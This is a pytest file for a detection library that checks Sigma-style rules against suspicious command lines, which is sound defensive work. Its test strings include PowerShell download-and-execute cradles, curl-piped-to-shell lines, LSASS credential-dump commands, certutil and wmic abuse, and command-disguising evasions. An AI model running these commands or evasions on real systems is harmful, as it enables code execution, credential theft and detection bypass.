"""The tables that rules are made of: every row's examples hold, and every value can be said in Sigma anywhere."""

import re

import polars as pl
import pytest

from longtail.detections.core import Core
from longtail.detections.cores import ALL
from longtail.detections.evasions import EVASIONS, Evasion, Start
from longtail.detections.meanings import GENERAL, Meaning
from longtail.detections.predicates import (
    EVENT,
    Item,
    Predicate,
    called,
    conjunction,
    contains,
    ends,
    every,
    flags,
    holds,
    implies,
    lowered,
    matches,
)


def told(line: str, *predicates: Predicate) -> bool:
    events = lowered(pl.DataFrame([("x.exe", line, None, None, None)], schema=EVENT, orient="row"))
    return bool(conjunction(predicates, events)[0])


@pytest.mark.parametrize("row", GENERAL, ids=lambda row: row.predicate.name)
def test_what_is_meant_is_told_from_what_looks_like_it(row: Meaning) -> None:
    assert all(told(line, row.predicate) for line in row.has)
    assert not any(told(line, row.predicate) for line in row.has_not)


@pytest.mark.parametrize("core", ALL, ids=lambda core: core.name)
def test_a_core_is_told_from_other_uses_of_its_program(core: Core) -> None:
    assert told(core.has, *core.predicates)
    assert not told(core.has_not, *core.predicates)


def general(name: str) -> Predicate:
    return next(row.predicate for row in GENERAL if row.predicate.name == name)


def core_of(name: str) -> tuple[Predicate, ...]:
    return next(core.predicates for core in ALL if core.name == name)


@pytest.mark.parametrize(
    ("line", "remote"),
    [
        ("a http://{}:8080/b", "url_by_number"),
        ("a \\\\{}\\c$\\b", "share_by_number"),
        ("a -R 1:{}:1 b", "address"),
    ],
)
def test_no_address_of_the_machines_own_is_a_remote_one(line: str, remote: str) -> None:
    own = ("127.0.0.1", "127.8.0.254", "0.0.0.0")
    others = ("1.2.3.4", "10.0.0.1", "12.7.0.1", "120.1.1.1", "126.1.1.1", "128.1.1.1", "129.0.0.1", "13.1.1.1",
              "172.16.0.1", "198.51.100.7", "203.0.113.9", "27.0.0.1", "7.1.1.1", "99.1.1.1")  # fmt: skip
    assert [each for each in own if told(line.format(each), general(remote))] == []
    assert [each for each in others if not told(line.format(each), general(remote))] == []


@pytest.mark.parametrize(
    "code", ["iex (irm http://a)", '"IEX(iwr http://a)"', "irm http://a|iex", "(irm http://a) | iex", "&{iex $x;iwr a}"]
)
def test_a_short_command_is_found_in_code(code: str) -> None:
    assert told(f"a.exe -nop -c {code}", *core_of("renamed_powershell"))


@pytest.mark.parametrize(
    "rest",
    ["-open iexplore.exe https://a", 'C:\\iexplore.exe "https://a"', "-Confirm https://a", "--affirm x", "viex x"],
)
def test_a_short_command_is_not_part_of_a_longer_word(rest: str) -> None:
    assert not told(f"a.exe -noprofile {rest}", *core_of("renamed_powershell"))


@pytest.mark.parametrize("into", ["sha256sum", "sha1sum -c a", "shuf", "shasum", "tar x"])
def test_what_is_fetched_and_not_run_is_not_run(into: str) -> None:
    assert not told(f"sh -c curl -s http://a/b | {into}", *core_of("piped_to_shell"))
    assert told("sh -c curl -s http://a/b | sh", *core_of("piped_to_shell"))
    assert told("sh -c 'wget -qO- http://a/b |/bin/sh -s x'", *core_of("piped_to_shell"))


@pytest.mark.parametrize(
    "line",
    ['tasklist /FI "IMAGENAME eq lsass.exe"', "findstr lsass a.txt", "a.exe -accepteula lsass.exe", "a -id lsass"],
)
def test_who_names_the_keeper_of_credentials_does_not_dump_it(line: str) -> None:
    assert not told(line, *core_of("memory_taken"))


@pytest.mark.parametrize(
    "line",
    ["p.exe -accepteula -ma lsass.exe a", "p.exe lsass /ma", "a.exe 624 C:\\a\\lsass.DMP", "a.exe lsass MiniDump"],
)
def test_who_dumps_the_keeper_of_credentials(line: str) -> None:
    assert told(line, *core_of("memory_taken"))


def predicate(*items: Item) -> Predicate:
    return Predicate("p", "", items, 1, 1)


@pytest.mark.parametrize(
    ("one", "other", "so"),
    [
        (contains("lsass.exe"), (contains("LSASS"), flags(" -accepteula")), True),
        (contains("lsass", "sam"), (contains("lsass"),), False),
        (every("call", "create"), (contains("creat"),), True),
        (contains("call", "create"), (every("call", "create"),), False),
        (every("call", "create x"), (every("create", "call"),), True),
        (flags(" -ma "), (flags(" -ma"),), True),
        (flags(" -ma "), (contains(" -ma "),), False),
        (ends(".exe", field="CommandLine"), (contains(".ex"),), True),
        (contains(".exe"), (ends(".exe", field="CommandLine"),), False),
        (contains(" 1.2.3.4"), (matches("[0-9].[0-9]"),), True),
        (matches("[0-9]"), (contains("1"),), False),
        (matches("[0-9]"), (matches("[0-9]"),), True),
        (ends("\\a.exe"), (contains("a.exe"),), False),
    ],
)
def test_one_predicate_implies_another_where_its_texts_do(one: Item, other: tuple[Item, ...], so: bool) -> None:
    assert implies(predicate(one), predicate(*other)) is so
    negated = Predicate("p", "", other, 1, 1, negated=True)
    assert not implies(predicate(one), negated) and not implies(negated, predicate(*other))


def test_a_short_word_is_called_after_what_may_stand_before_a_command() -> None:
    assert {" iwr ", "(iwr ", '"iwr ', "|iwr "} <= {*called("iwr")}
    assert all(each.endswith("iex(") for each in called("iex", after="("))


def test_names_are_unique_and_odds_are_shares() -> None:
    names = [row.predicate.name for row in GENERAL] + [core.name for core in ALL]
    assert len(names) == len(set(names))
    assert all(0 < each.predicate.usual <= 1 and 0 < each.predicate.kept <= 1 for each in GENERAL)
    assert all(0 < core.usual <= 1 for core in ALL)


def test_patterns_read_alike_in_every_dialect() -> None:
    """No letters whose case a dialect may tell apart, no classes, no look-around, no flags, nothing nested."""
    items = [item for row in GENERAL for item in row.predicate.items] + [
        item for core in ALL for part in core.parts for item in part
    ]
    for item in items:
        if "re" in item.modifiers:
            (pattern,) = item.values
            assert not re.search(r"\\[a-zA-Z]|\(\?|\"|[*+]", re.sub(r"\[[^\]]*\]", "", pattern))


@pytest.mark.parametrize("evasion", EVASIONS, ids=lambda evasion: evasion.name)
def test_an_evasion_dresses_as_its_row_says(evasion: Evasion) -> None:
    before, after = evasion.example
    image = "C:\\Windows\\System32\\cmd.exe" if before.startswith("cmd") else "C:\\certutil.exe"
    if evasion.name == "look-alike directory":
        image = "C:\\Windows\\System32\\certutil.exe"
    dressed = evasion.dress(Start(image, before))
    assert dressed is not None
    assert dressed.command_line == after


def test_a_dressing_that_changes_nothing_is_none() -> None:
    assert {each.name for each in EVASIONS if each.dress(Start("", ""))} <= {"case", "quoted program"}


def test_case_never_counts_and_a_missing_field_matches_nothing() -> None:
    events = lowered(pl.DataFrame({"image": ["C:\\A\\BITSADMIN.exe", None], "command_line": [None, "x"]}))
    assert holds(Predicate("p", "", (ends("\\bitsadmin.EXE"),), 1, 1), events).to_list() == [True, False]
    assert holds(Predicate("p", "", (contains("X"),), 1, 1), events).to_list() == [False, True]
    assert holds(Predicate("p", "", (contains("x"),), 1, 1, negated=True), events).to_list() == [True, False]


def test_every_dash_is_one_dash() -> None:
    flag = Predicate("p", "", (flags(" -urlcache"),), 1, 1)
    assert all(told(f"certutil {dash}urlcache", flag) for dash in "-/–—―")
    assert not told("certutil urlcache", flag)


def test_all_of_several_values_or_any_item() -> None:
    both = Predicate("p", "", (every("call", "create"),), 1, 1)
    assert told("wmic process CALL create x", both) and not told("wmic process call", both)
    either = Predicate("p", "", (contains("a1"), contains("b2")), 1, 1)
    assert told("x b2", either) and not told("x c3", either)
